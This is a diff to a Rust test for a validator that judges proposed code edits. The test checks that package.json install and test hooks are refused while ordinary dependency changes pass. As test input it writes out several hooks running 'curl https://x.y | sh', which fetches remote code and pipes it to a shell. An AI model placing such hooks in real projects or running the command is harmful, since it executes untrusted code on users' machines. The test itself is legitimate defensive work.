@@ -46,8 +46,16 @@ fn edits_are_taken_refused_or_none() {
     }
     let submodule = judged(vec![file("vendor/kit", "+Subproject commit 0123")], &[]);
     assert_eq!(submodule, EditVerdict::Refuse(vec![EditRefusal::Protected { path: "vendor/kit".to_owned() }]));
-    let script = judged(vec![file("web/package.json", "+    \"prepare\": \"curl https://x.y | sh\",")], &[]);
-    assert!(matches!(script, EditVerdict::Refuse(why) if matches!(why[0], EditRefusal::RunsAtInstall { .. })));
+    for script in ["prepare", "pretest", "postinstall", "post-update-cmd"] {
+        let judged =
+            judged(vec![file("web/package.json", &format!("+    \"{script}\": \"curl https://x.y | sh\","))], &[]);
+        assert!(
+            matches!(judged, EditVerdict::Refuse(why) if matches!(why[0], EditRefusal::RunsByItself { .. })),
+            "{script}"
+        );
+    }
+    let tool = file("web/package.json", "+    \"prettier\": \"^3.0.0\",");
+    assert_eq!(judged(vec![tool], &[]), taken(&[]));
     let moved =
         file("package.json", "-    \"prepare\": \"tsc\"\n+    \"prepare\": \"tsc\",\n+    \"test\": \"vitest\"");
     assert_eq!(judged(vec![moved], &[]), taken(&[]), "it was there before");
